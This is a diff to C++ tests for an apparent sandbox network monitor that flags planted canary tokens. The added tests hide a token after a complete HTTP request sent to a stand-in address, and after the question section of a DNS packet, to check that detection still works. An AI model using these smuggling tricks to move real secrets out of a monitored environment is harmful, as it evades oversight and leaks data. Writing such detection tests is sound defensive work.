@@ -97,10 +97,10 @@ std::string talk(const std::string& address, std::uint16_t port, const std::stri
 }
 
 // Asks any name server for `labels`, as one packet; gives the address as text.
-std::string resolve(const std::vector<std::string>& labels) {
+std::string resolve(const std::vector<std::string>& labels, const std::string& behind = "") {
   std::string packet("\x12\x34\x01\x00\0\1\0\0\0\0\0\0", 12);
   for (const std::string& label : labels) packet += static_cast<char>(label.size()) + label;
-  packet += std::string("\0\0\1\0\1", 5);
+  packet += std::string("\0\0\1\0\1", 5) + behind;
   const Fd client(socket(AF_INET, SOCK_DGRAM, 0));
   const timeval limit{.tv_sec = 5};
   setsockopt(client.get(), SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
@@ -180,6 +180,24 @@ TEST_F(InASandboxNetwork, AnswersAnHttpRequestToAnyAddressAndKeepsIt) {
   EXPECT_EQ(facts<record::DataSent>(), std::vector{sent});
   const record::CanarySeen canary{
       .canary = "key", .place = "network", .where = "203.0.113.9", .encoding = "plain"};
+  EXPECT_EQ(facts<record::CanarySeen>(), std::vector{canary});
+}
+
+TEST_F(InASandboxNetwork, KeepsWhatIsSentBehindACompleteRequest) {
+  const std::string request =
+      "POST / HTTP/1.1\r\nContent-Length: 1\r\n\r\nx" + std::string(40'000, 'y') + token;
+
+  watch([&] { return talk("203.0.113.9", 80, request); });
+
+  EXPECT_EQ(kept.size(), request.size());
+  EXPECT_EQ(facts<record::CanarySeen>().size(), 1U);
+}
+
+TEST_F(InASandboxNetwork, SearchesTheWholeOfANameServerPacket) {
+  watch([&] { return resolve({"plain", "example"}, token); });
+
+  const record::CanarySeen canary{
+      .canary = "key", .place = "network", .where = "plain.example", .encoding = "plain"};
   EXPECT_EQ(facts<record::CanarySeen>(), std::vector{canary});
 }
 
